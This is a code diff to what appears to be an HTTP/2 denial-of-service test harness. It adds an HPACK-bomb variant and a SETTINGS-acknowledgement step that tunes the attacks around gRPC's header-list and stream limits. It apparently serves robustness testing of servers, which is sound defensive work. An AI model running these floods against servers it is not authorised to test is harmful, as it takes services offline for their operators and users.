@@ -196,6 +196,7 @@ ATTACKS: dict[str, Attack] = {
     "hpack_bomb": hpack_bomb(4000, 16_000),
     "hpack_small": hpack_bomb(0, 16_000),
     "hpack_below_limit": hpack_bomb(3900, 3),
+    "hpack_acknowledged": hpack_bomb(0, 16_000),
     "continuation_flood": continuation_flood,
     "empty_continuations": empty_continuations,
     "ping_flood": repeat(http2.ping(b"flooding") * 2000),
@@ -217,6 +218,18 @@ UNGREETED = ("slow_preface",)
 """Attacks that begin before the connection's preface."""
 
 
+UNACKNOWLEDGED = ("hpack_bomb", "hpack_small", "continuation_flood")
+"""Attacks that never acknowledge the server's SETTINGS: until then gRPC's limit of a header list is 16 MiB."""
+
+
+def acknowledge(peer: Peer) -> None:
+    """Wait for the server's SETTINGS and acknowledge them: gRPC accepts only a few streams before."""
+    while True:
+        frame = peer.read_frame()
+        if frame.kind == http2.SETTINGS and not frame.flags & http2.ACK:
+            return peer.send(http2.settings_ack())
+
+
 class Counts:
     """What an attack did, over all its connections."""
 
@@ -231,6 +244,8 @@ def play(name: str, address: str, until: float, counts: Counts) -> None:
         try:
             with Peer.connect(address, greet=name not in UNGREETED) as peer:
                 peer.socket.settimeout(STALL_S)
+                if name not in UNACKNOWLEDGED + UNGREETED:
+                    acknowledge(peer)
                 counts.connections += 1
                 ATTACKS[name](peer, until)
         except OSError:
